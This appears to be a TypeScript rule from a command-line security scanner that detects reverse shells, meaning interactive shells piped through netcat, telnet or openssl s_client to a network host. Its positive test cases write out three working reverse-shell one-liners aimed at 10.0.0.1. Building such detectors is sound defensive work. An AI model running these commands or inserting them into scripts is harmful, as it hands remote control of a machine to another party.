import { defineRule, type Hit } from './rule.js';
import { NETCAT, isPosixShell, PS_HOSTS } from '../programs.js';
import type { Invocation } from '../ir.js';

const isShell = (i: Invocation): boolean => isPosixShell(i.program) || i.program === 'cmd' || PS_HOSTS.has(i.program);
const isNet = (i: Invocation): boolean => NETCAT.has(i.program) || (i.program === 'openssl' && i.args[0] === 's_client');

export const rule = defineRule({
  id: 'shell_over_network',
  category: 'reverse_shell',
  severity: 'critical',
  technique: 'T1059.004',
  title: 'Pipes an interactive shell to or from a network connection (mkfifo + nc, telnet | sh | telnet)',
  check(ctx) {
    const hits: Hit[] = [];
    for (const inv of ctx.invocations) {
      if (!isShell(inv) || inv.args.some((a) => /^-[a-z]*c$/.test(a) || /^\/c$/i.test(a))) continue;
      const net = [...inv.upstream, ...inv.downstream].find(isNet);
      if (net) hits.push({ span: { start: Math.min(inv.span.start, net.span.start), end: Math.max(inv.span.end, net.span.end) }, explanation: `connects an interactive ${inv.program} to ${net.program} ${net.args.filter((a) => !a.startsWith('-')).join(' ')}, so the other machine controls this shell` });
    }
    return hits;
  },
  cases: {
    positive: [['bash', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f'], ['bash', 'telnet 10.0.0.1 23 | /bin/bash | telnet 10.0.0.1 24'], ['bash', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s']],
    negative: [['bash', 'echo "GET /" | nc example.com 80'], ['bash', 'cat dump.sql | psql']],
  },
});
